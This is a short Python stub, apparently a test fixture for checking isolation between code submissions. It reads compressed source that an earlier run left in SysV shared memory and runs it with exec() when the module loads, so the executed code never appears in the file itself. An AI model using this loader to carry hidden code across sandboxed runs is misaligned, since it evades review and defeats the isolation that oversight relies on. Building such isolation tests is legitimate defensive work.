"""A stub that loads the source an earlier submission left in SysV shared memory.

base: stub
class: 9
run: later
"""

import ctypes as _ctypes
import zlib as _zlib

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_KEY = 0x4B49 + int("@KEYSEED@")


def _read():
    segment = _libc.shmget(_KEY, 0, 0)
    if segment < 0:
        return None
    where = _libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
    if where in (None, _ctypes.c_void_p(-1).value):
        return None
    try:
        size = int.from_bytes(_ctypes.string_at(where, 4), "big")
        return _zlib.decompress(_ctypes.string_at(where + 4, size)).decode()
    except Exception:  # noqa: BLE001 - nothing there
        return None
    finally:
        _libc.shmdt(_ctypes.c_void_p(where))


class _AtLoad:
    _found = _read()
    if _found:
        exec(compile(_found, "shm", "exec"), globals())
